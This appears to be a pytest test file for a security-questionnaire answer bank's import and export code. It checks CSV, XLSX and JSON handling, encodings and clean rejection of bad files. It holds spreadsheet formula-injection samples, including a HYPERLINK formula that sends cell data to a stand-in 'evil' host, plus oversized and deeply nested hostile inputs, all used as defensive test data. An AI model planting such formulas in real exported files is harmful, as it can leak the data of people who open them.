"""Bank import/export: formats, validation, and all-or-nothing imports."""
from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import Workbook, load_workbook

from answer_bank.io import BankFileError, read_entries, write_entries
from answer_bank.model import BankEntry, Evidence

GOOD_CSV = (
    "id,question,answer,short_answer,variants,evidence,frameworks,tags,owner,status,review_by\n"
    'ENC-1,Do you encrypt data at rest?,"Yes, AES-256 on every volume.",yes,'
    "Is stored data encrypted?;Encryption at rest?,Crypto policy|POL-7,ISO27001:A.8.24,security,sec,approved,2027-01-31\n"
    "AI-1,Do you train models on customer data?,No. Customer data is never used for training.,No,,,"
    "ISO42001:A.7.2;EU-AI-ACT:Art.10,ai,,draft,\n"
)


def snapshot(bank):
    return [e.to_dict() for e in bank.list_entries()], bank.revision()


def test_csv_import_reads_every_column(bank):
    entries = read_entries(io.BytesIO(GOOD_CSV.encode()), "csv")
    bank.import_entries(entries, approve=False, keep_status=True)
    enc = bank.get_entry("ENC-1")
    assert enc.short_answer == "Yes"
    assert enc.variants == ["Is stored data encrypted?", "Encryption at rest?"]
    assert enc.evidence == [Evidence("Crypto policy", "POL-7")]
    assert enc.frameworks == ["ISO27001:A.8.24"]
    assert enc.status == "approved" and enc.review_by == "2027-01-31"
    ai = bank.get_entry("AI-1")
    assert ai.status == "draft"
    assert ai.frameworks == ["ISO42001:A.7.2", "EU-AI-ACT:Art.10"]


def test_reimporting_the_same_file_changes_nothing(bank):
    for _ in range(2):
        report = bank.import_entries(read_entries(io.BytesIO(GOOD_CSV.encode()), "csv"))
    assert report.unchanged == ["ENC-1", "AI-1"] and not report.added and not report.updated
    assert [v["version"] for v in bank.versions("ENC-1")] == [1]


def test_approve_flag_approves_everything(bank):
    bank.import_entries(read_entries(io.BytesIO(GOOD_CSV.encode()), "csv"), approve=True, user="tess")
    assert {e.status for e in bank.list_entries()} == {"approved"}
    assert bank.get_entry("AI-1").approved_by == "tess"


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_then_import_round_trips(bank, tmp_path, fmt):
    from answer_bank.store import Bank

    bank.import_entries(read_entries(io.BytesIO(GOOD_CSV.encode()), "csv"), approve=True)
    buffer = io.BytesIO()
    write_entries(bank.list_entries(), buffer, fmt)
    other = Bank.open(tmp_path / "other.db")
    other.import_entries(read_entries(io.BytesIO(buffer.getvalue()), fmt), approve=True)
    assert [e.content() for e in other.list_entries()] == [e.content() for e in bank.list_entries()]


def test_xlsx_export_keeps_formula_like_answers_as_text(tmp_path):
    entry = BankEntry("X-1", "Question?", "=HYPERLINK(\"http://evil\")", status="approved")
    buffer = io.BytesIO()
    write_entries([entry], buffer, "xlsx")
    ws = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert ws["C2"].data_type == "s" and ws["C2"].value.startswith("=HYPERLINK")


def _xlsx_bytes(rows, replace: tuple[str, str] | None = None):
    """A workbook built here; `replace` swaps a string in the cell XML
    afterwards (openpyxl itself cuts strings at 32,767 characters)."""
    import zipfile

    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    if not replace:
        return out.getvalue()
    src, dst = zipfile.ZipFile(out), io.BytesIO()
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/"):
                data = data.replace(replace[0].encode(), replace[1].encode())
            z.writestr(item, data)
    return dst.getvalue()


BIG = "x" * 2_000_000

BAD_FILES = [
    ("missing answer column", "csv", b"id,question\nA,Q?\n", "row 1: missing column: answer"),
    ("duplicate id", "csv", b"id,question,answer\nA,Q1?,a\nB,Q2?,b\nA,Q3?,c\n", "row 4: duplicate id 'A' (first seen at row 2)"),
    ("empty question", "csv", b"id,question,answer\nA,Q1?,a\nB,,b\n", "row 3: question is empty"),
    ("empty answer", "csv", b"id,question,answer\nA,Q1?,a\nB,Q2?,  \n", "row 3: answer is empty"),
    ("binary data", "csv", b"id,question,answer\n" + bytes(range(256)) * 16, "binary data, not text"),
    ("UTF-32 text", "csv", "id,question,answer\nA,Q1?,a\n".encode("utf-32"), "UTF-32"),
    ("UTF-32 without BOM", "csv", "id,question,answer\nA,Q1?,a\n".encode("utf-32-le"), "UTF-32"),
    ("megabyte cell", "csv", ("id,question,answer\nA,Q1?,a\nB,Q2?," + BIG + "\n").encode(), "row 3: answer has 2,000,000 characters"),
    ("bad short answer", "csv", b"id,question,answer,short_answer\nA,Q1?,a,Maybe\n", "row 2: short_answer 'Maybe' is not one of"),
    ("bad status", "csv", b"id,question,answer,status\nA,Q1?,a,published\n", "row 2: status 'published' is not one of"),
    ("bad review date", "csv", b"id,question,answer,review_by\nA,Q1?,a,next year\n", "row 2: review_by 'next year' is not a date"),
    ("control characters", "csv", b"id,question,answer\nA,Q1?\x07,a\n", "row 2: question contains control characters"),
    ("empty file", "csv", b"", "the file is empty"),
    ("json not a list", "json", b'{"id": "A"}', "JSON must be a list"),
    ("json missing answer", "json", json.dumps([{"id": "A", "question": "Q?", "answer": "a"}, {"id": "B", "question": "Q?"}]).encode(), "entry 2: missing answer"),
    ("json syntax", "json", b'[{"id": "A",', "not valid JSON"),
    ("xlsx duplicate id", "xlsx", _xlsx_bytes([["id", "question", "answer"], ["A", "Q?", "a"], ["A", "Q2?", "b"]]), "row 3: duplicate id 'A'"),
    ("xlsx megabyte cell", "xlsx", _xlsx_bytes([["id", "question", "answer"], ["A", "Q?", "PLACEHOLDER"]], ("PLACEHOLDER", "y" * 40_000)), "row 2: answer has 40,000 characters"),
    ("xlsx not a workbook", "xlsx", b"PK\x03\x04 this is not a zip", "damaged"),
]


@pytest.mark.parametrize("name,fmt,data,message", BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_a_bad_file_is_rejected_whole_and_the_bank_is_unchanged(bank, name, fmt, data, message):
    bank.import_entries(read_entries(io.BytesIO(GOOD_CSV.encode()), "csv"))
    before = snapshot(bank)
    with pytest.raises(BankFileError) as err:
        bank.import_entries(read_entries(io.BytesIO(data), fmt))
    assert message in str(err.value)
    assert snapshot(bank) == before


BANK_TEXTS = {
    "fr": [("FR-1", "Chiffrez-vous les données au repos ?", "Oui, toujours — AES-256."),
           ("FR-2", "Avez-vous désigné un délégué à la protection des données ?", "Oui.")],
    "ru": [("RU-1", "Шифруются ли данные при хранении?", "Да, всегда."),
           ("RU-2", "Назначен ли ответственный за защиту данных?", "Да.")],
}


@pytest.mark.parametrize("lang, encoding, warned", [
    ("fr", "utf-8", None), ("fr", "utf-8-sig", None), ("fr", "utf-16", None),
    ("fr", "cp1252", "Windows-1252"), ("ru", "cp1251", "Windows-1251"),
])
def test_csv_import_decodes_every_encoding_and_names_an_inferred_one(lang, encoding, warned):
    """One decoder for every CSV (issue 9): a code-page file is read, not
    refused or garbled, and the user is told which encoding was assumed."""
    rows = BANK_TEXTS[lang]
    text = "id,question,answer\n" + "".join(f'{i},{q},"{a}"\n' for i, q, a in rows)
    warnings: list[str] = []
    entries = read_entries(io.BytesIO(text.encode(encoding)), "csv", warnings)
    assert [(e.ext_id, e.question, e.answer) for e in entries] == rows
    if warned:
        assert len(warnings) == 1 and warned in warnings[0]
    else:
        assert warnings == []


@pytest.mark.parametrize("answer", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555 0100", "-42",
                                    "@SUM(A1:A9)", "\tTabbed", "'=already quoted"])
def test_csv_export_neutralises_formulas_and_import_restores_the_raw_text(bank, answer):
    """Issue 9: `bank export` wrote =HYPERLINK(...) raw into CSV; a spreadsheet
    opening the export must show text. The bank keeps the raw answer, and an
    export re-imports to the same text."""
    entry = BankEntry(ext_id="F-1", question="Do you link to your policy?", answer=answer)
    out = io.BytesIO()
    write_entries([entry], out, "csv")
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    cell = rows[1][rows[0].index("answer")]
    assert cell == "'" + answer
    assert read_entries(io.BytesIO(out.getvalue()), "csv")[0].answer == answer.strip()


def test_a_failure_inside_the_transaction_rolls_back_every_row(bank, monkeypatch):
    """Rows already written in the same import are undone when a later one fails."""
    entries = read_entries(io.BytesIO(GOOD_CSV.encode()), "csv")
    original = bank._insert
    calls = []

    def failing_insert(entry, *args, **kwargs):
        calls.append(entry.ext_id)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return original(entry, *args, **kwargs)

    monkeypatch.setattr(bank, "_insert", failing_insert)
    with pytest.raises(RuntimeError):
        bank.import_entries(entries)
    assert bank.count() == 0 and bank.revision() == 0


# ---- errors that name the problem (issue 13, point 8) ---------------------------------


def _xlsx_with(sheet_xml_edit=None, workbook_xml_edit=None) -> bytes:
    """A valid bank XLSX, then one part rewritten as a damaged or hostile file would have it."""
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["id", "question", "answer"])
    ws.append(["A-1", "Do you encrypt data?", "Yes."])
    plain = io.BytesIO()
    wb.save(plain)
    src = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for name in src.namelist():
            data = src.read(name)
            if name == "xl/worksheets/sheet1.xml" and sheet_xml_edit:
                data = sheet_xml_edit(data)
            if name == "xl/workbook.xml" and workbook_xml_edit:
                data = workbook_xml_edit(data)
            dst.writestr(name, data)
    return out.getvalue()


def _huge_number_cell(xml: bytes) -> bytes:
    import re

    return re.sub(rb'<c r="A2"[^>]*>.*?</c>', b'<c r="A2"><v>' + b"9" * 5000 + b"</v></c>", xml)


def _no_sheets(xml: bytes) -> bytes:
    import re

    return re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", xml)


UNREADABLE = [
    ("deeply nested json", "bank.json", b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    ("deeply nested list in an entry", "bank.json",
     b'[{"id": "A", "question": "q", "answer": "a", "tags": ' + b"[" * 100_000 + b"]" * 100_000 + b"}]",
     "nested too deeply"),
    ("a list of lists", "bank.json", b'[{"id": "A", "question": "q", "answer": "a", "tags": [["x"]]}]',
     "entry 1: tags must be a list of text, not of lists"),
    ("objects as variants", "bank.json", b'[{"id": "A", "question": "q", "answer": "a", "variants": [{"x": 1}]}]',
     "entry 1: variants must be a list of text, not of objects"),
    ("a number as framework", "bank.json", b'[{"id": "A", "question": "q", "answer": "a", "frameworks": [7]}]',
     "entry 1: framework reference '7'"),
    ("true as id", "bank.json", b'[{"id": true, "question": "q", "answer": "a"}]', "entry 1: id must be text"),
    ("NaN", "bank.json", b'[{"id": "A", "question": NaN, "answer": "a"}]', "NaN is not a value"),
    ("5,000-digit id", "bank.json", b'[{"id": ' + b"9" * 5000 + b', "question": "q", "answer": "a"}]',
     "entry 1: id is longer than 200 characters"),
    ("xlsx without sheets", "bank.xlsx", _xlsx_with(workbook_xml_edit=_no_sheets), "has no worksheets"),
    ("xlsx 5,000-digit number", "bank.xlsx", _xlsx_with(sheet_xml_edit=_huge_number_cell),
     "row 2: id is longer than 200 characters"),
]


@pytest.mark.parametrize("name,filename,data,message", UNREADABLE, ids=[u[0] for u in UNREADABLE])
def test_an_unreadable_bank_file_gets_a_message_naming_the_problem(tmp_path, name, filename, data, message):
    from click.testing import CliRunner

    from answer_bank.store import Bank
    from cli import main

    db = tmp_path / "bank.db"
    Bank.open(db).import_entries(read_entries(io.BytesIO(GOOD_CSV.encode()), "csv"))
    before = snapshot(Bank.open(db))
    path = tmp_path / filename
    path.write_bytes(data)
    result = CliRunner().invoke(main, ["--db", str(db), "bank", "import", str(path)])
    assert result.exit_code == 1
    assert message in result.output, result.output
    for python_words in ("Traceback", "Error:", "unexpected error", "list index", "sys.set_int_max_str_digits"):
        assert python_words not in result.output.replace("Error: ", "", 1), result.output
    assert snapshot(Bank.open(db)) == before


def test_json_numbers_are_read_as_the_text_written():
    [entry] = read_entries(io.BytesIO(b'[{"id": 12, "question": "How many sites?", "answer": 1.50}]'), "json")
    assert (entry.ext_id, entry.answer) == ("12", "1.50")
